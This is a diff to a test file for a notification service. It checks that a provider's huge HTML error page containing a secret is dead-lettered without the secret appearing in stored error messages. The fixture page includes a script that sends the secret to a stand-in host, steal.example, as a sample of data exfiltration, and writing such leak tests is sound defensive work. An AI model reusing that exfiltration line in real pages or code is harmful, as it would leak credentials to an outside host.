@@ -96,17 +96,23 @@ test("a provider answering a huge HTML page with secrets in it: only a short rea
     htmlBody: `<html><head><script>fetch("https://steal.example/?k=${secret}")</script></head><body>${`<pre>Authorization: Bearer ${secret}</pre>\u0000`.repeat(20_000)}</body></html>`,
   });
 
-  expect((await h.api('POST', '/v1/order-events', orderEvent('ord-html', 'cust-html', 'shipped'))).status).toBe(202);
+  const event = orderEvent('ord-html', 'cust-html', 'shipped');
+  expect((await h.api('POST', '/v1/order-events', event)).status).toBe(202);
 
+  const notificationId = `${event.eventId}/push`;
+  const [attempt] = await eventually(async () => {
+    const failed = await h.db.deliveryAttempt.findMany({ where: { notificationId, status: 'failed' } });
+    expect(failed).toHaveLength(1);
+    return failed;
+  }, 60_000);
+  expect([attempt!.errorCode, attempt!.errorMessage]).toEqual(['INVALID_ARGUMENT', 'FCM answered 400 INVALID_ARGUMENT']);
   // Refused outright (400): dead-lettered at once.
   const letter = await eventually(async () => {
-    const found = await h.db.deadLetter.findFirst({ where: { customerId: 'cust-html' } });
+    const found = await h.db.deadLetter.findFirst({ where: { notificationId } });
     expect(found).not.toBeNull();
     return found!;
   }, 60_000);
-  const attempts = await h.db.deliveryAttempt.findMany({ where: { notificationId: letter.notificationId } });
-  const notification = await h.db.notification.findUniqueOrThrow({ where: { id: letter.notificationId } });
-  expect(attempts.map((a) => [a.errorCode, a.errorMessage])).toEqual([['INVALID_ARGUMENT', 'FCM answered 400 INVALID_ARGUMENT']]);
+  const notification = await h.db.notification.findUniqueOrThrow({ where: { id: notificationId } });
   const stored = [letter.lastError, JSON.stringify(letter.errors), notification.failureReason ?? ''];
   for (const text of stored) {
     expect(text).not.toContain(secret);
